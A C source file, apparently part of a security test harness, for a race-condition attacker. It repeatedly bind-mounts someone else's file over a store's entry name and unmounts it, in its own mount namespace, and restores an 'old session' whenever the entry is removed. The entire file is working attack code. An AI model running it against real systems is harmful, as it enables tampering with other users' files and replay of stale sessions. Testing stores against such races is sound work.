/*
 * Mounts somebody else's file or directory over a name of a store and unmounts it, in a tight loop,
 * in a mount namespace of its own (unshare starts it).
 *
 *   remount SOURCE DIRECTORY NAME [once]
 *
 * It stays mounted for as long as it took to unmount it last: that takes far longer than to mount.
 * A file that was removed while it was not mounted on is made again. With `once` it stays for good.
 */
#define _GNU_SOURCE
#include <stdbool.h>
#include <sys/mount.h>

#include "attacker.h"

static double now_seconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
  if (argc != 4 && argc != 5) return 2;
  const bool is_once = argc == 5;
  if (chdir(argv[2]) != 0) fail(argv[2]);
  const char* const name = argv[3];
  if (is_once && mount(argv[1], name, NULL, MS_BIND, NULL) != 0) fail("mount");
  begin();
  while (is_once && !is_told_to_end) pause();
  unsigned long rounds = 0;
  double unmounting_seconds = 0;
  for (; !is_told_to_end; ++rounds) {
    if (mount(argv[1], name, NULL, MS_BIND, NULL) == 0) {
      const double mounted = now_seconds();
      while (now_seconds() - mounted < unmounting_seconds) continue;
      const double unmounting = now_seconds();
      if (umount2(name, MNT_DETACH) != 0) fail("umount");
      unmounting_seconds = now_seconds() - unmounting;
    } else if (errno == ENOENT) {
      if (write_old_session(AT_FDCWD, name) != 0) fail(name);
    } else {
      fail("mount");
    }
  }
  return end(rounds);
}
